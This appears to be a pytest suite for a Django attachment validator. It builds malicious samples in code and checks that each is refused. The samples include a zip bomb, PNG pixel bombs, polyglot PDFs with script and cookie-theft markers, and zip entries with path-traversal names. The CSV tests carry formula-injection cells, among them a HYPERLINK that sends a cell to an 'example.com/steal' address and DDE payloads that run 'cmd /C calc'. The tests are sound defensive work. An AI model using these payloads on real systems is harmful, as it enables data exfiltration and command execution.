"""Attachment validation: what members may attach and what is refused.

Every sample is built here, byte by byte or with zipfile and Pillow, so no
binary fixture is committed and each one shows what it is made of.
"""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from PIL import Image

from knowledge import uploads
from knowledge.uploads import validate_attachment

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"

# The main part of each Office kind and the content type [Content_Types].xml gives it.
OOXML_PARTS = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def pdf_bytes(extra_object: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; extra_object, if
    given, is added as one more object."""
    content = b"BT /F1 12 Tf 20 100 Td (Basel Convention) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if extra_object:
        objects.append(extra_object)
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def ooxml_bytes(kind: str, *, main_part: bool = True, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Office Open XML package of the given kind (docx, xlsx, pptx)."""
    part, part_type = OOXML_PARTS[kind]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{part_type}"/>'
        "</Types>"
    )
    relationships = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="' + part + '" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument"/></Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", relationships)
        if main_part:
            archive.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><root/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odf_bytes(mimetype: str = ODT) -> bytes:
    """A minimal OpenDocument file: `mimetype` first and stored, as the
    standard requires, then its content and manifest."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest/>')
    return buffer.getvalue()


def image_bytes(pil_format: str) -> bytes:
    """A small real image in the given Pillow format."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 12), (20, 120, 200)).save(buffer, format=pil_format)
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A well-formed PNG whose header declares width x height one-bit pixels
    but whose data is tiny: what a decompression bomb looks like before it
    is decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def zip_bomb_xlsx(entry_bytes: int = 20 * 1024 * 1024) -> bytes:
    """A spreadsheet whose sheet is entry_bytes of zeros, written in pieces
    so the sample never sits whole in memory; it compresses over 1,000:1."""
    buffer = io.BytesIO(ooxml_bytes("xlsx"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            piece = b"\x00" * (1024 * 1024)
            for _ in range(entry_bytes // len(piece)):
                entry.write(piece)
    return buffer.getvalue()


def refusal(name: str, content: bytes) -> ValidationError:
    """The ValidationError validate_attachment raises for this file."""
    with pytest.raises(ValidationError) as caught:
        validate_attachment(SimpleUploadedFile(name, content))
    return caught.value


# Accepted files


@pytest.mark.parametrize(
    ("name", "build", "stored_type"),
    [
        ("report.pdf", pdf_bytes, "application/pdf"),
        ("guidance.docx", lambda: ooxml_bytes("docx"), DOCX),
        ("inventory.xlsx", lambda: ooxml_bytes("xlsx"), XLSX),
        ("briefing.pptx", lambda: ooxml_bytes("pptx"), PPTX),
        ("notes.odt", odf_bytes, ODT),
        ("figures.ods", lambda: odf_bytes(ODS), ODS),
        ("photo.jpg", lambda: image_bytes("JPEG"), "image/jpeg"),
        ("photo.JPEG", lambda: image_bytes("JPEG"), "image/jpeg"),
        ("chart.png", lambda: image_bytes("PNG"), "image/png"),
        ("chart.webp", lambda: image_bytes("WEBP"), "image/webp"),
        ("sites.csv", lambda: b"country,site,tonnes\nKenya,Nairobi,12\nGhana,Accra,7\n", "text/csv"),
        ("names.csv", lambda: "name,city\nJosé,Genève\nZoë,Zürich\n".encode(), "text/csv"),
        ("bom.csv", lambda: b"\xef\xbb\xbfcountry,tonnes\nChile,3\n", "text/csv"),
    ],
)
def test_real_files_of_each_allowed_type_are_accepted(name, build, stored_type):
    upload = SimpleUploadedFile(name, build())

    assert validate_attachment(upload) == stored_type
    assert upload.tell() == 0


def test_an_image_just_within_the_pixel_budget_is_accepted():
    # 7,000 x 7,000 is 49 megapixels: declared, not decoded, so the test stays small.
    assert validate_attachment(SimpleUploadedFile("map.png", png_declaring(7000, 7000))) == "image/png"


def test_the_file_is_left_at_its_start_after_a_refusal():
    upload = SimpleUploadedFile("report.pdf", pdf_bytes(b"(<script>alert(1)</script>)"))

    with pytest.raises(ValidationError):
        validate_attachment(upload)
    assert upload.tell() == 0


# Extension, size and emptiness


@pytest.mark.parametrize(
    "name", ["drawing.svg", "page.html", "page.htm", "page.xhtml", "app.js", "setup.exe", "archive.zip", "README"]
)
def test_types_off_the_allow_list_are_refused_with_the_list_of_accepted_types(name):
    error = refusal(name, b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")

    assert error.code == "type_not_allowed"
    assert error.messages == [
        "Files of this type cannot be attached. Accepted types: "
        ".csv, .docx, .jpeg, .jpg, .ods, .odt, .pdf, .png, .pptx, .webp, .xlsx."
    ]


def test_an_empty_file_is_refused():
    error = refusal("report.pdf", b"")

    assert error.code == "empty"
    assert error.messages == ["The file is empty."]


def test_a_file_over_the_limit_is_refused_with_its_size_and_the_limit(settings):
    settings.KNOWLEDGE_ATTACHMENT_MAX_BYTES = 100
    content = pdf_bytes()

    error = refusal("report.pdf", content)

    assert error.code == "too_large"
    assert error.messages == [f"The file is {filesizeformat(len(content))}; the limit is {filesizeformat(100)}."]


# Content that disagrees with the name


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200),
        ("photo.jpg", image_bytes("PNG")),
        ("guidance.docx", ooxml_bytes("xlsx")),
        ("guidance.docx", b"Just some words, not a document.\n"),
        ("notes.odt", odf_bytes(ODS)),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(name, content):
    error = refusal(name, content)

    assert error.code == "type_mismatch"
    assert error.messages == [f"The content of this file does not match its .{name.rsplit('.', 1)[1]} extension."]


# Polyglots: one file, more than one type


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", pdf_bytes(b"<< /S /JavaScript >>\n% <SCRIPT>alert(document.cookie)</SCRIPT>")),
        ("report.pdf", pdf_bytes(b"(<!DOCTYPE html><html><body>hello</body></html>)")),
        ("report.pdf", pdf_bytes(b"(javascript:alert(1))") + b"PK\x03\x04"),
        ("photo.jpg", image_bytes("JPEG") + ooxml_bytes("docx")),
        ("chart.png", image_bytes("PNG") + b"<iframe src='https://example.org'></iframe>"),
    ],
)
def test_a_pdf_or_image_that_is_also_another_type_is_refused(name, content):
    error = refusal(name, content)

    assert error.code == "polyglot"
    assert "looks like more than one type" in error.messages[0]


@pytest.mark.parametrize("chance_bytes", [b"PK\x03\x04", b"<SvG", b"<svg", b"PK\x05\x06"])
def test_short_signatures_that_occur_by_chance_in_compressed_data_are_accepted(chance_bytes):
    """A 4-byte sequence turns up by chance in a few percent of large PDFs
    and photos; only a ZIP that ends the file, or a long marker, means a
    second format."""
    stream = b"stream\n" + b"\x8f\x13" * 40_000 + chance_bytes + b"\x8f\x13" * 40_000 + b"\nendstream"
    upload = SimpleUploadedFile("report.pdf", pdf_bytes(stream))
    assert validate_attachment(upload) == "application/pdf"


def test_a_marker_split_across_two_reads_is_still_found(monkeypatch):
    content = pdf_bytes(b"(<script>alert(1)</script>)")
    # The first read ends three bytes into "<script", the second starts after them.
    monkeypatch.setattr(uploads, "CHUNK_BYTES", content.index(b"<script") + 3)

    assert refusal("report.pdf", content).code == "polyglot"


# Office and OpenDocument archives


def test_a_spreadsheet_that_is_a_zip_bomb_is_refused():
    error = refusal("inventory.xlsx", zip_bomb_xlsx())

    assert error.code == "archive_bomb"
    assert "zip bomb" in error.messages[0]


def test_a_document_that_unpacks_beyond_the_total_budget_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ARCHIVE_UNCOMPRESSED_BYTES", 100)

    assert refusal("guidance.docx", ooxml_bytes("docx")).code == "archive_bomb"


def test_a_document_with_too_many_parts_is_refused():
    extra = {f"word/media/part{number}.xml": b"<x/>" for number in range(uploads.MAX_ARCHIVE_ENTRIES)}

    error = refusal("guidance.docx", ooxml_bytes("docx", extra=extra))

    assert error.code == "too_many_entries"
    assert error.messages == ["This document holds more than 2,000 parts; it cannot be attached."]


def test_a_document_whose_end_record_understates_its_parts_is_still_refused():
    extra = {f"word/media/part{number}.xml": b"<x/>" for number in range(uploads.MAX_ARCHIVE_ENTRIES)}
    content = bytearray(ooxml_bytes("docx", extra=extra))
    # The end record's two entry counts (8 and 10 bytes in) now claim three parts.
    end = content.rindex(b"PK\x05\x06")
    content[end + 8 : end + 12] = struct.pack("<2H", 3, 3)

    assert refusal("guidance.docx", bytes(content)).code == "too_many_entries"


def test_a_spreadsheet_without_its_workbook_is_refused():
    error = refusal("inventory.xlsx", ooxml_bytes("xlsx", main_part=False))

    assert error.code == "missing_parts"
    assert error.messages == ["This is not a complete .xlsx document: parts every such document has are missing."]


def test_a_plain_zip_renamed_docx_is_refused_even_though_zip_is_an_accepted_container():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")

    assert refusal("guidance.docx", buffer.getvalue()).code == "missing_parts"


@pytest.mark.parametrize("entry", ["../evil", "word/../../evil.sh", "/etc/cron.d/evil", "..\\evil.bat", "C:/evil"])
def test_a_document_with_an_entry_that_climbs_out_is_refused(entry):
    error = refusal("guidance.docx", ooxml_bytes("docx", extra={entry: b"#!/bin/sh\n"}))

    assert error.code == "unsafe_path"
    assert entry in error.messages[0]


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def with_broken_directory_header(content: bytes) -> bytes:
    return content.replace(b"PK\x01\x02", b"PK\x01\x09", 1)


def with_directory_larger_than_the_file(content: bytes) -> bytes:
    end = content.rindex(b"PK\x05\x06")
    return content[: end + 12] + struct.pack("<L", len(content) * 2) + content[end + 16 :]


@pytest.mark.parametrize("damage", [truncated, with_broken_directory_header, with_directory_larger_than_the_file])
def test_a_damaged_document_is_refused(damage):
    error = refusal("guidance.docx", damage(ooxml_bytes("docx")))

    assert error.code == "invalid_archive"
    assert error.messages == ["This .docx file is damaged or is not a real document of that kind."]


def test_a_document_with_a_password_protected_part_is_refused():
    content = bytearray(ooxml_bytes("docx"))
    # Set the "encrypted" flag (bit 0 of the flags, 8 bytes into a central directory header).
    flags_at = content.index(b"PK\x01\x02") + 8
    content[flags_at] |= 0x01

    error = refusal("guidance.docx", bytes(content))

    assert error.code == "invalid_archive"
    assert "password" in error.messages[0]


@pytest.mark.parametrize(
    "mimetype",
    [
        ODT + "-template",  # python-magic names the other kind
        ODT + "x",  # python-magic stops reading at "text"; the entry itself is checked
    ],
)
def test_an_opendocument_whose_mimetype_names_another_kind_is_refused(mimetype):
    error = refusal("notes.odt", odf_bytes(mimetype))

    assert error.code == "type_mismatch"
    assert error.messages == ["The content of this file does not match its .odt extension."]


# Images


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (8000, 8000),  # 64 megapixels: over our budget, under Pillow's own warning
        (10000, 10000),  # 100 megapixels: Pillow warns
        (20000, 20000),  # 400 megapixels: Pillow refuses outright
    ],
)
def test_an_image_that_would_decode_to_too_many_pixels_is_refused(width, height):
    error = refusal("map.png", png_declaring(width, height))

    assert error.code == "image_too_large"
    assert error.messages == ["The image has too many pixels; the limit is 50 megapixels."]


def test_a_damaged_image_is_refused():
    content = bytearray(image_bytes("PNG"))
    content[-6] ^= 0xFF  # break the IEND checksum

    error = refusal("chart.png", bytes(content))

    assert error.code == "corrupt"
    assert error.messages == ["The image could not be read; it may be damaged."]


# CSV


@pytest.mark.parametrize(
    "content",
    [
        b"country,tonnes\nKenya,1\x002\n",
        "country,site\nCôte d'Ivoire,Abidjan\n".encode("latin-1"),
        b"country,tonnes\nKenya,\xe2\x82",  # cut in the middle of a character
    ],
)
def test_a_csv_that_is_not_utf8_text_is_refused(content):
    error = refusal("sites.csv", content)

    assert error.code == "invalid_csv"
    assert "UTF-8" in error.messages[0]


def test_a_csv_with_web_page_code_is_refused():
    error = refusal("sites.csv", b"country,note\nKenya,<ScRiPt>alert(1)</script>\n")

    assert error.code == "polyglot"
    assert "script code" in error.messages[0]


@pytest.mark.parametrize(
    ("cell", "where"),
    [
        ('=HYPERLINK(""http://example.com/steal?""&A1,""Details"")', "Row 3, column 2"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "Row 3, column 2"),
        ("+cmd|' /C calc'!A0", "Row 3, column 2"),
        ("-2+3+cmd|' /C calc'!A0", "Row 3, column 2"),
    ],
)
def test_a_csv_with_a_cell_a_spreadsheet_would_run_is_refused_with_where_it_is(cell, where):
    """Found by the outside test (#18): CSV attachments were taken with formulas as they were."""
    content = f'country,note\nKenya,fine\nSenegal,"{cell}"\n'.encode()
    error = refusal("sites.csv", content)

    assert error.code == "csv_formula"
    assert error.messages[0].startswith(f"{where} starts like a spreadsheet formula")
    assert "put an apostrophe before it" in error.messages[0]


def test_a_csv_of_signed_numbers_and_text_is_accepted():
    content = b'country,change,note\nKenya,-5,down\nSenegal,+3.2,up\nGhana, -1 000,"\'=not a formula"\n'
    upload = SimpleUploadedFile("changes.csv", content)
    assert validate_attachment(upload) == "text/csv"
    assert upload.read() == content


def test_a_csv_that_cannot_be_read_as_a_table_is_refused_rather_than_left_unchecked():
    """A cell longer than the CSV reader's limit stopped the formula check
    half-way, and the rest of the file went unchecked (found in review, #18)."""
    content = b"country,note\nKenya," + b"x" * 140_000 + b'\nSenegal,=HYPERLINK("http://example.com")\n'
    error = refusal("sites.csv", content)

    assert error.code == "invalid_csv"
    assert "cannot be read as a table" in error.messages[0]
